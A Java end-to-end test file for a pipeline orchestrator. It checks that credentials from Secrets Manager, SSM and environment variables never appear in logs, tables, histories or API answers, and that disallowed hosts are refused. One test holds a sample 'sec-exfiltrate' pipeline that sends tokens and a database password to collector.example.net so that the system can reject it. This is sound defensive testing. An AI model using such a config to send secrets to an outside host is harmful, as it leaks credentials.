package dev.interlock.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.interlock.local.demo.FakeJobServer;
import dev.interlock.local.runtime.LocalRuntime;
import dev.interlock.local.runtime.RuntimeOptions;
import dev.interlock.model.runtime.Environment;
import dev.interlock.runtime.aws.AwsClients;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.PrintStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.dynamodb.model.AttributeValue;
import software.amazon.awssdk.services.sfn.model.ExecutionListItem;
import software.amazon.awssdk.services.sfn.model.ExecutionStatus;

/**
 * Credentials by reference, end to end: an Airflow DAG run started and polled with a token from Secrets Manager, a key
 * from SSM Parameter Store and an {@code INTERLOCK_*} variable — resolved by the trigger and the run-checker through
 * their real SDK clients from the local runtime's Secrets Manager / SSM endpoint (served from a secrets file) — and
 * no value anywhere a user or an operator can read afterwards: function logs, table items, execution histories, API
 * answers, alerts. A pipeline that would send a credential to a host the deployment does not allow is refused at
 * registration; one registered before the allow-list was tightened is refused at call time, with nothing sent.
 */
class SecretsEndToEndTest extends EndToEnd {

    private static final String SM_TOKEN = "sm-token-5f1e9c0b77";
    private static final String SSM_KEY = "ssm-key-8a2d47e1c3";
    private static final String ENV_TOKEN = "env-token-3b6f0d9a41";
    private static final List<String> VALUES = List.of(SM_TOKEN, SSM_KEY, ENV_TOKEN);

    private static final String ALWAYS_PASS = """
            archetype: batch-ingestion
            traits:
              source-freshness: {evaluator: "builtin:always-pass"}
              upstream-dependency: {evaluator: "builtin:always-pass"}
              resource-availability: {evaluator: "builtin:always-pass"}
            """;

    private final ByteArrayOutputStream logs = new ByteArrayOutputStream();
    private PrintStream originalOut;
    private PrintStream originalErr;
    private Path secretsFile;
    private String secretHosts = "secret:interlock/*=127.0.0.1;ssm:/interlock/*=127.0.0.1;INTERLOCK_JOB_*=127.0.0.1";

    @Override
    RuntimeOptions runtimeOptions(Path dataDir) {
        try {
            if (secretsFile == null) {
                secretsFile = Files.createTempFile("interlock-secrets", ".yaml");
                Files.writeString(secretsFile, """
                        secrets:
                          interlock/airflow/prod: {token: "%s", user: interlock}
                        parameters:
                          /interlock/airflow/key: "%s"
                        """.formatted(SM_TOKEN, SSM_KEY));
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return super.runtimeOptions(dataDir)
                .withSecrets(
                        secretsFile,
                        Map.of(
                                "INTERLOCK_SECRET_HOSTS",
                                secretHosts,
                                "INTERLOCK_SECRETS_PREFIX",
                                "interlock/",
                                "INTERLOCK_SSM_PARAMETER_PREFIX",
                                "/interlock/",
                                "INTERLOCK_JOB_TOKEN",
                                ENV_TOKEN));
    }

    /** Everything the functions and the runtime print, from before the runtime starts. */
    @Override
    LocalRuntime startRuntime(Path dataDir) throws Exception {
        if (originalOut == null) {
            originalOut = System.out;
            originalErr = System.err;
            System.setOut(new PrintStream(new Tee(originalOut, logs), true, StandardCharsets.UTF_8));
            System.setErr(new PrintStream(new Tee(originalErr, logs), true, StandardCharsets.UTF_8));
        }
        return super.startRuntime(dataDir);
    }

    @AfterAll
    void restoreStreams() throws IOException {
        if (originalOut != null) {
            System.setOut(originalOut);
            System.setErr(originalErr);
        }
        if (secretsFile != null) {
            Files.deleteIfExists(secretsFile);
        }
    }

    @Test
    void anAirflowRunIsStartedAndPolledWithCredentialsThatAreStoredAndLoggedNowhere() throws Exception {
        LocalDate date = today();
        putPipeline("name: sec-airflow\n" + ALWAYS_PASS + """
                trigger:
                  type: airflow
                  url: "%s"
                  dagId: sec_dag
                  headers:
                    Authorization: "Bearer ${secret:interlock/airflow/prod#token}"
                    X-Api-Key: "${ssm:/interlock/airflow/key}"
                    X-Job-Token: "${INTERLOCK_JOB_TOKEN}"
                  body: '{"date":"${date}"}'
                pollIntervalSeconds: 30
                """.formatted(jobs.endpoint()));

        String name = evaluate("sec-airflow", date);

        assertThat(awaitDone(name)).isEqualTo(ExecutionStatus.SUCCEEDED);
        assertThat(runLogStatus("sec-airflow", date, "daily")).isEqualTo("COMPLETED");
        FakeJobServer.Received start = jobs.received().stream()
                .filter(r -> r.job().equals("sec_dag"))
                .findFirst()
                .orElseThrow();
        assertThat(start.header("Authorization")).isEqualTo("Bearer " + SM_TOKEN);
        assertThat(start.header("X-Api-Key")).isEqualTo(SSM_KEY);
        assertThat(start.header("X-Job-Token")).isEqualTo(ENV_TOKEN);
        assertThat(jobs.polls())
                .filteredOn(p -> p.job().equals("sec_dag"))
                .isNotEmpty()
                .allSatisfy(poll -> assertThat(poll.header("Authorization")).isEqualTo("Bearer " + SM_TOKEN));

        // The execution history carries the references, never the values.
        String history = histories("sec-airflow");
        assertThat(history)
                .contains("${secret:interlock/airflow/prod#token}")
                .contains("${ssm:/interlock/airflow/key}");
        assertNowhere("the execution histories", history);
        assertNowhere("the table", tableItems());
        assertNowhere(
                "the API's answers",
                String.join(
                        "\n",
                        expect(200, "GET", "/pipelines/sec-airflow", null, null).toString(),
                        events("sec-airflow").toString(),
                        runs("sec-airflow").toString(),
                        runLogs("sec-airflow").toString(),
                        list("/alerts").toString()));
        String logged = logs.toString(StandardCharsets.UTF_8);
        assertThat(logged).as("the functions' logs are captured").contains("\"pipelineId\":\"sec-airflow\"");
        assertNowhere("the logs", logged);
    }

    /**
     * Post-run checks run in the orchestrator (docs/post-run-checks.md), with what the evaluator has for readiness
     * traits: a {@code lambda:} evaluator it invokes, an HTTP check whose header carries a Secrets Manager secret it
     * resolves. Both requests are recorded under the orchestrator, for IamConformanceIT to judge against its role.
     */
    @Test
    void aPostRunCheckCallsALambdaEvaluatorAndSendsASecretHeaderFromTheOrchestrator() {
        LocalDate date = today();
        java.util.concurrent.atomic.AtomicInteger audits = new java.util.concurrent.atomic.AtomicInteger();
        String audit = evaluator("/sec-post-run/audit", path -> {
            audits.incrementAndGet();
            return EvaluatorAnswer.of("PASS");
        });
        putPipeline("name: sec-post-run\n" + ALWAYS_PASS + """
                trigger: {type: http, url: "%s/jobs/sec-post-run"}
                postRun:
                  - name: audit
                    evaluator: "%s"
                    headers: {Authorization: "Bearer ${secret:interlock/airflow/prod#token}"}
                  - name: row-count
                    evaluator: "lambda:interlock-post-run-row-count"
                    required: false
                """.formatted(jobs.endpoint(), audit));

        String name = evaluate("sec-post-run", date);

        assertThat(awaitDone(name)).isEqualTo(ExecutionStatus.SUCCEEDED);
        assertThat(runLogStatus("sec-post-run", date, "daily"))
                .as("the required check with the secret header passed: the orchestrator resolved the secret")
                .isEqualTo("COMPLETED");
        assertThat(audits.get()).isEqualTo(1);
        assertThat(eventsOf("sec-post-run", "POST_RUN_CHECKED")).singleElement().satisfies(e -> {
            assertThat(e.path("status").asText()).isEqualTo("PASSED");
            assertThat(e.toString()).contains("row-count").contains("audit").doesNotContain(SM_TOKEN);
        });
    }

    @Test
    void aPipelineThatWouldSendACredentialElsewhereIsRefusedAtRegistrationWithItsPath() {
        Response r = call(
                "PUT", "/pipelines/sec-exfiltrate", "application/yaml", "name: sec-exfiltrate\n" + ALWAYS_PASS + """
                trigger:
                  type: http
                  url: "https://collector.example.net/ingest"
                  headers: {Authorization: "Bearer ${secret:interlock/airflow/prod#token}"}
                  body: '{"k":"${INTERLOCK_JOB_TOKEN}","db":"${secret:prod/db#password}"}'
                """);

        assertThat(r.status()).as(r.raw()).isEqualTo(400);
        List<String> errors = new ArrayList<>();
        r.body()
                .path("errors")
                .forEach(e -> errors.add(
                        e.path("path").asText() + ": " + e.path("message").asText()));
        assertThat(errors)
                .containsExactlyInAnyOrder(
                        "$.trigger.headers.Authorization: ${secret:interlock/airflow/prod#token} may not be sent to host "
                                + "'collector.example.net': INTERLOCK_SECRET_HOSTS allows it only to 127.0.0.1",
                        "$.trigger.body: ${INTERLOCK_JOB_TOKEN} may not be sent to host 'collector.example.net': "
                                + "INTERLOCK_SECRET_HOSTS allows it only to 127.0.0.1",
                        "$.trigger.body: Secrets Manager secret 'prod/db' is outside the names this deployment may read "
                                + "('interlock/…', INTERLOCK_SECRETS_PREFIX)",
                        "$.trigger.body: ${secret:prod/db#password} may not be sent to host 'collector.example.net': "
                                + "INTERLOCK_SECRET_HOSTS names no host for secret:prod/db");
        assertThat(call("GET", "/pipelines/sec-exfiltrate", null, null).status())
                .isEqualTo(404);
    }

    @Test
    void aPipelineRegisteredBeforeTheAllowListWasTightenedIsRefusedAtCallTimeAndNothingIsSent() throws Exception {
        Path dataDir = Files.createTempDirectory("interlock-secrets-restart");
        LocalRuntime shared = rt;
        try (FakeJobServer jobServer =
                FakeJobServer.start(0, java.time.Clock.systemUTC(), java.time.Duration.ofMinutes(1))) {
            startRuntime(dataDir);
            putPipeline("name: sec-tightened\n" + ALWAYS_PASS + """
                    trigger: {type: http, url: "%s/jobs/sec-tightened", headers: {X-Job-Token: "${INTERLOCK_JOB_TOKEN}"}}
                    """.formatted(jobServer.endpoint()));
            rt.close();

            // The deployment now lets INTERLOCK_JOB_* go only to its real job host.
            secretHosts = "INTERLOCK_JOB_*=jobs.example.com";
            startRuntime(dataDir);
            LocalDate date = today();
            String name = evaluate("sec-tightened", date);

            assertThat(awaitDone(name)).isEqualTo(ExecutionStatus.FAILED);
            JsonNode log = runLog("sec-tightened", date, "daily");
            assertThat(log.path("status").asText()).isEqualTo("FAILED");
            assertThat(log.path("failureCategory").asText()).isEqualTo("PERMANENT");
            assertThat(log.path("failureMessage").asText())
                    .isEqualTo("${INTERLOCK_JOB_TOKEN} may not be sent to host "
                            + "'127.0.0.1': INTERLOCK_SECRET_HOSTS allows it only to jobs.example.com");
            assertThat(jobServer.received()).isEmpty();
            assertThat(alertKinds("sec-tightened")).contains("TRIGGER_FAILED");
            assertNowhere("the logs", logs.toString(StandardCharsets.UTF_8));
        } finally {
            rt.close();
            secretHosts = "secret:interlock/*=127.0.0.1;ssm:/interlock/*=127.0.0.1;INTERLOCK_JOB_*=127.0.0.1";
            attach(shared);
        }
    }

    private static void assertNowhere(String where, String text) {
        for (String value : VALUES) {
            assertThat(text).as("a credential value in " + where).doesNotContain(value);
        }
    }

    /** Every item of the table, as DynamoDB returns it. */
    private String tableItems() {
        try (AwsClients dynamo = new AwsClients(Environment.of(
                Map.of("INTERLOCK_ENDPOINT_DYNAMODB", rt.dynamoDbEndpoint().toString())))) {
            StringBuilder all = new StringBuilder();
            for (Map<String, AttributeValue> item : dynamo.dynamoDb()
                    .scanPaginator(b -> b.tableName(LocalRuntime.TABLE_NAME))
                    .items()) {
                all.append(item).append('\n');
            }
            assertThat(all).as("the table holds the runs").contains("sec-airflow");
            return all.toString();
        }
    }

    /** The raw GetExecutionHistory answers (execution data included) of every execution of a pipeline. */
    private String histories(String pipeline) throws Exception {
        HttpClient http = HttpClient.newHttpClient();
        StringBuilder all = new StringBuilder();
        for (ExecutionListItem execution : executions(pipeline)) {
            String token = null;
            do {
                var request = JSON.createObjectNode()
                        .put("executionArn", execution.executionArn())
                        .put("maxResults", 1000)
                        .put("includeExecutionData", true);
                if (token != null) {
                    request.put("nextToken", token);
                }
                String body = request.toString();
                HttpResponse<String> page = http.send(
                        HttpRequest.newBuilder(
                                        URI.create(rt.stepFunctionsEndpoint().toString()))
                                .header("X-Amz-Target", "AWSStepFunctions.GetExecutionHistory")
                                .header("Content-Type", "application/x-amz-json-1.0")
                                .POST(HttpRequest.BodyPublishers.ofString(body))
                                .build(),
                        HttpResponse.BodyHandlers.ofString());
                assertThat(page.statusCode()).as(page.body()).isEqualTo(200);
                all.append(page.body()).append('\n');
                JsonNode next = JSON.readTree(page.body()).path("nextToken");
                token = next.isTextual() ? next.asText() : null;
            } while (token != null);
        }
        return all.toString();
    }

    /** Writes to two streams. */
    private static final class Tee extends OutputStream {
        private final OutputStream first;
        private final OutputStream second;

        Tee(OutputStream first, OutputStream second) {
            this.first = first;
            this.second = second;
        }

        @Override
        public void write(int b) throws IOException {
            first.write(b);
            synchronized (second) {
                second.write(b);
            }
        }

        @Override
        public void write(byte[] b, int off, int len) throws IOException {
            first.write(b, off, len);
            synchronized (second) {
                second.write(b, off, len);
            }
        }

        @Override
        public void flush() throws IOException {
            first.flush();
        }
    }
}
